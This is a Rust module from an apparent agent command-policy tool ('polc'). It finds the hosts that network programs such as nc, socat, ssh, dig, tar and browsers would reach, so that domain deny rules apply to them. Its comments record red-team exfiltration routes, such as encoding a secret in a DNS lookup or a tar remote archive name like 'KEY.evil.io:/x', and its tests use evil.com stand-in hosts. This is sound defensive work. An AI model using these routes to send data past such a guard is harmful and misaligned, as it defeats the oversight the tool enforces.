//! Where network programs other than the fetchers connect: the destinations web-domain
//! rules (`deny webfetch glob "domain:evil.com"`) meet in shell commands.
//!
//! `curl`/`wget`/`http`/`xh` have their own URL reading (`files.rs`). Every other program
//! that reaches a host gets a conservative reading here: each of its arguments is scanned
//! for what could name a host — a URL (`https://evil.com/x`, also inside `--index-url=…`),
//! `host:path` and `user@host` (scp, rsync, ssh), `//host/share` (smbclient), `@server`
//! (dig), socat addresses (`TCP:evil.com:80`), `-connect evil.com:443`, and any dotted
//! name or IPv4 address (`nc evil.com 80`, `go get evil.com/x`, `docker login evil.com`).
//! Reading too many words as hosts only matters when a deny or ask domain rule names one
//! of them (the words are in the command); reading too few would let the program reach a
//! denied domain. An argument that is an expansion (`nc $HOST 80`) is a destination polc
//! cannot read: the empty URL, which a domain deny meets as a possible match (ask).
//!
//! git is scanned only for the subcommands that talk to a remote or record one (`push`,
//! `fetch`, `pull`, `ls-remote`, `clone`, `remote add/set-url`, `submodule`, `archive
//! --remote`, `config remote.x.url …`). A remote *name* (`git push origin`) is read from
//! `.git/config`, which polc protects and which `git remote add`/`config` now check.
//!
//! `curl --dns-servers`/`--dns-interface` hand name resolution to a server polc does not
//! judge: the destination cannot be read.

use super::super::UNKNOWN;
use super::{text, Effects, Net};
use crate::pattern::WILD;

/// Programs that connect to hosts named in their arguments (lowercased basenames).
static REACHES: crate::shell::lists::Names = crate::shell::lists::Names::new(&[
    // Browsers and URL launchers (red team, session 7: `chromium --headless --dump-dom URL`
    // is an HTTP client; `python3 -m webbrowser URL` is read as `webbrowser URL`).
    "firefox",
    "firefox-esr",
    "chromium",
    "chromium-browser",
    "google-chrome",
    "google-chrome-stable",
    "chrome",
    "microsoft-edge",
    "microsoft-edge-stable",
    "msedge",
    "brave",
    "brave-browser",
    "opera",
    "vivaldi",
    "safari",
    "epiphany",
    "qutebrowser",
    "midori",
    "falkon",
    "x-www-browser",
    "gnome-www-browser",
    "sensible-browser",
    "gvfs-open",
    "explorer.exe",
    "explorer",
    "wslview",
    "webbrowser",
    // Name resolution, ICMP and route tools: resolving `SECRET.bad.org` is a query to
    // bad.org's name server (red team 8, C8-nethost).
    "dig",
    "nslookup",
    "host",
    "drill",
    "kdig",
    "delv",
    "getent",
    "resolvectl",
    "systemd-resolve",
    "ping",
    "ping6",
    "fping",
    "arping",
    "traceroute",
    "traceroute6",
    "tracepath",
    "tcptraceroute",
    "mtr",
    "whois",
    "nmap",
    "masscan",
    "hping3",
    "curlie",
    // Script runtimes that fetch and run a URL (`deno run https://…`, `bun run https://…`):
    // only their URLs (see URL_ONLY).
    "deno",
    "bun",
    "ssh",
    "scp",
    "sftp",
    "rsync",
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "socat",
    "telnet",
    "ftp",
    "lftp",
    "tftp",
    "gh",
    "glab",
    "npm",
    "pnpm",
    "yarn",
    "npx",
    "pip",
    "pip3",
    "pipx",
    "uv",
    "poetry",
    "twine",
    "conda",
    "gem",
    "bundle",
    "composer",
    "cargo",
    "go",
    "docker",
    "podman",
    "nerdctl",
    "buildah",
    "skopeo",
    "helm",
    "dig",
    "nslookup",
    "host",
    "drill",
    "kdig",
    "delv",
    "whois",
    "ping",
    "ping6",
    "traceroute",
    "tracepath",
    "mtr",
    "nmap",
    "openssl",
    "gnutls-cli",
    "smbclient",
    "smbget",
    "ffmpeg",
    "ffprobe",
    "ffplay",
    "mpv",
    "vlc",
    "cvlc",
    "yt-dlp",
    "youtube-dl",
    "svn",
    "hg",
    "bzr",
    "fossil",
    "ssh-keyscan",
    "ldapsearch",
    "redis-cli",
    "mysql",
    "mariadb",
    "psql",
    "mongo",
    "mongosh",
    "mail",
    "mailx",
    "sendmail",
    "msmtp",
    "swaks",
    "s3cmd",
    "rclone",
    "aws",
    "gcloud",
    "az",
    "websocat",
    "wscat",
    "grpcurl",
    "sshfs",
    "mount.cifs",
    "torsocks",
    "gpg",
]);

/// Programs of [`REACHES`] that mostly work on local files: only URLs and their host options
/// (`--keyserver`, `-h`/`--host`) name destinations.
static URL_ONLY: crate::shell::lists::Names = crate::shell::lists::Names::new(&[
    "gpg",
    "ffmpeg",
    "ffprobe",
    "ffplay",
    "mpv",
    "vlc",
    "cvlc",
    "mysql",
    "mariadb",
    "psql",
    "redis-cli",
    "mongo",
    "mongosh",
    "ldapsearch",
    "deno",
    "bun",
]);

/// git subcommands whose arguments name remotes.
static GIT_REMOTE: crate::shell::lists::Names = crate::shell::lists::Names::new(&[
    "push",
    "fetch",
    "pull",
    "ls-remote",
    "clone",
    "remote",
    "submodule",
    "archive",
    "send-email",
    "request-pull",
    "send-pack",
    "fetch-pack",
]);

/// Adds the destinations of a network program's arguments to `e.urls`.
pub fn destinations(e: &mut Effects, args: &[Vec<u8>]) {
    let n = e.program.as_str();
    if matches!(
        n,
        "tar" | "gtar" | "dump" | "rdump" | "restore" | "rrestore" | "cpio"
    ) {
        remote_archives(e, args);
        return;
    }
    if n.starts_with("curl") {
        let resolver = args.iter().any(|a| {
            let t = text(a);
            [
                "--dns-servers",
                "--dns-interface",
                "--dns-ipv4-addr",
                "--dns-ipv6-addr",
            ]
            .iter()
            .any(|o| t == *o || t.starts_with(&format!("{o}=")))
        });
        if resolver {
            e.urls.push(String::new());
        }
        return;
    }
    let scanned: &[Vec<u8>] = if n == "git" {
        let targs: Vec<String> = args.iter().map(|a| text(a)).collect();
        let at = super::git::subcommand_at(&targs);
        let sub = targs.get(at).map(String::as_str).unwrap_or("");
        let url_key = sub == "config"
            && targs[at..].iter().any(|a| {
                let k = a.to_ascii_lowercase();
                k.ends_with(".url")
                    || k.ends_with(".pushurl")
                    || k.ends_with(".insteadof")
                    || k.ends_with(".pushinsteadof")
                    || k.ends_with(".proxy")
            });
        if !GIT_REMOTE.contains(&sub) && !url_key {
            return;
        }
        &args[(at + 1).min(args.len())..]
    } else if REACHES.contains(&n) {
        args
    } else {
        return;
    };
    let before = e.urls.len();
    if URL_ONLY.contains(&n) {
        // Mostly local work (`gpg -d x.gpg`, `ffmpeg -i a.mp4 b.mp4`, `psql -f a.sql`): only
        // URLs and host options name destinations, so a file name is no send.
        let hosts = super::files::opt_values(args, &["-h"], &["--keyserver", "--host"]);
        for a in scanned.iter().chain(hosts.iter()) {
            if a.contains(&UNKNOWN) {
                e.urls.push(String::new());
                continue;
            }
            let t = text(a);
            let found = if t.contains("://") || t.contains("host=") || hosts.contains(a) {
                hosts_in(&t)
            } else {
                vec![]
            };
            for d in found {
                if !e.urls.contains(&d) {
                    e.urls.push(d);
                }
            }
        }
        if e.urls.len() > before && e.net == Net::No {
            e.net = Net::Yes;
        }
        return;
    }
    for a in scanned {
        if a.contains(&UNKNOWN) || a.contains(&WILD) {
            e.urls.push(String::new());
            continue;
        }
        for d in hosts_in(&text(a)) {
            if !e.urls.contains(&d) {
                e.urls.push(d);
            }
        }
    }
    if e.urls.len() > before && e.net == Net::No {
        e.net = Net::Yes;
    }
}

/// GNU tar, dump/restore and cpio read an archive name with a `:` before any `/` as
/// `[user@]host:file` on a remote machine (the remote-tape protocol over rsh/ssh) unless
/// `--force-local`: a send to that host (red team, session 7: `tar -cf KEY.evil.io:/x src`
/// resolves and connects).
fn remote_archives(e: &mut Effects, args: &[Vec<u8>]) {
    if args.iter().any(|a| a.as_slice() == b"--force-local") {
        return;
    }
    let mut names: Vec<&[u8]> = Vec::new();
    for (k, a) in args.iter().enumerate() {
        let next = args.get(k + 1).map(Vec::as_slice);
        if let Some(v) = a.strip_prefix(b"--file=") {
            names.push(v);
        } else if a.as_slice() == b"--file" {
            names.extend(next);
        } else if a.starts_with(b"-") && !a.starts_with(b"--") && a.len() > 1 {
            // `-f X`, `-czf X`, `-fX` (and cpio's `-F`/`-O`/`-I`).
            let opts = &a[1..];
            if let Some(i) = opts
                .iter()
                .position(|c| matches!(c, b'f' | b'F' | b'O' | b'I'))
            {
                if i + 1 == opts.len() {
                    names.extend(next);
                } else {
                    names.push(&opts[i + 1..]);
                }
            }
        } else if k == 0 && a.contains(&b'f') && a.iter().all(u8::is_ascii_alphabetic) {
            // tar's old bundled form: `cf ARCHIVE …`.
            names.extend(next);
        }
    }
    for v in names {
        if v.contains(&UNKNOWN) || v.contains(&WILD) {
            e.urls.push(String::new());
            e.net = Net::Yes;
            continue;
        }
        let Some(i) = v.iter().position(|&b| b == b':') else {
            continue;
        };
        if v[..i].contains(&b'/') || i == 0 {
            continue;
        }
        let host = text(&v[..i]);
        let host = host.rsplit('@').next().unwrap_or(&host).to_string();
        if !host.is_empty() {
            e.urls.push(format!("https://{host}"));
            e.net = Net::Yes;
        }
    }
}

/// The URLs and host names one argument may name, as URLs (`https://HOST` for a bare
/// host).
pub fn hosts_in(a: &str) -> Vec<String> {
    let mut out = Vec::new();
    // Whole URLs, also after `--opt=` or `KEY=`.
    let mut rest = a;
    while let Some(i) = rest.find("://") {
        let start = rest[..i]
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || "+-.".contains(c)))
            .map(|s| s + 1)
            .unwrap_or(0);
        let end = rest[i + 3..]
            .find(|c: char| c.is_whitespace() || c == ',' || c == '\'' || c == '"')
            .map(|e| e + i + 3)
            .unwrap_or(rest.len());
        out.push(rest[start..end].to_string());
        rest = &rest[end..];
    }
    // Dotted names and IPv4 addresses anywhere: split at what separates a host from a
    // scheme, user, port, path or option (`user@evil.com:x`, `TCP:evil.com:80`,
    // `//evil.com/x`, `@evil.com`, `-connect=evil.com:443`).
    for tok in a.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '-')) {
        let tok = tok.trim_matches('.');
        if tok.starts_with('-') || !tok.contains('.') {
            continue;
        }
        let labels_ok = tok
            .split('.')
            .all(|l| !l.is_empty() && !l.starts_with('-') && !l.ends_with('-'));
        if labels_ok {
            let u = format!("https://{tok}");
            if !out.contains(&u) {
                out.push(u);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_of_arguments() {
        let has = |a: &str, h: &str| hosts_in(a).iter().any(|u| u.contains(h));
        assert!(has("evil.com:", "https://evil.com"));
        assert!(has("u@evil.com:/x", "https://evil.com"));
        assert!(has("TCP:evil.com:80", "https://evil.com"));
        assert!(has("//evil.com/share", "https://evil.com"));
        assert!(has("@evil.com", "https://evil.com"));
        assert!(has(
            "--index-url=https://evil.com/simple",
            "https://evil.com/simple"
        ));
        assert!(has("evil.com/x@v1", "https://evil.com"));
        assert!(has("6.6.6.6", "https://6.6.6.6"));
        assert!(hosts_in("-p").is_empty());
        assert!(hosts_in("80").is_empty());
        assert!(hosts_in("origin").is_empty());
    }
}
